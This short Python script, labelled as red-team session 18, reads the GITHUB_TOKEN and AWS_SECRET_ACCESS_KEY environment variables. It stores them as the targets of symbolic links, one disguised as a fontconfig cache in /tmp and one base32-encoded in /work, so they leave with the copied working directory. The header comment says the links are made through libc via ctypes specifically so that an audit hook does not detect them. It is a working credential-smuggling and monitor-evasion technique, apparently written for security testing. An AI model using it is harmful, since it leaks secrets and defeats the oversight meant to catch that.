# A secret written as the target of symbolic links (red team, session
# 18), through libc (ctypes) so that the audit hook sees no symlink: one
# in /tmp, raw behind a path; one in /work (copied out with the working
# directory), base32. No file is opened and no link is followed. Before,
# the hook's claim alone could name it, and here it has none.
import base64, ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
s = os.environ["GITHUB_TOKEN"].encode()
a = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode())
for target, name in ((b"/usr/share/fonts/" + s, b"/tmp/.fontconfig-cache"), (a, b"/work/.lock")):
    if libc.symlink(target, name) != 0:
        raise OSError(ctypes.get_errno(), "symlink")
print("linked")
